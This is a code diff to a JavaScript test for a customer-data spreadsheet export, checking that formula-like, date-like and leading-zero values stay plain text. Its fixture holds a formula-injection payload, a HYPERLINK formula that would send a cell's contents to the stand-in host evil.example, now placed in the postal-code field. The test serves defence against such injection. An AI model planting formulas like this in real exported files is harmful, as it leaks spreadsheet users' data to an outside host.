@@ -31,8 +31,11 @@ describe('text stays text without the @ format', () => {
   const hostile = {
     code: 'C1',
     name: '=2+3',
-    phone: '=HYPERLINK("https://evil.example/?"&B2;"x")',
-    postalCode: '0042',
+    // Phone and a Canadian postal code have a format since decision 021: a code outside Canada is
+    // kept as typed, so it carries the formula-looking text into a plain-text column.
+    country: 'France',
+    postalCode: '=HYPERLINK("https://evil.example/?"&B2;"x")',
+    address: '0042',
     city: '2026-10-15',
     contact: "'t Hooft",
   };
@@ -46,8 +49,8 @@ describe('text stays text without the @ format', () => {
       expect(row).toMatchObject({
         'Code client': 'C1',
         Nom: '=2+3',
-        Téléphone: hostile.phone,
-        'Code postal': '0042',
+        'Code postal': hostile.postalCode,
+        Adresse: '0042',
         Ville: '2026-10-15',
         Contact: "'t Hooft",
       });
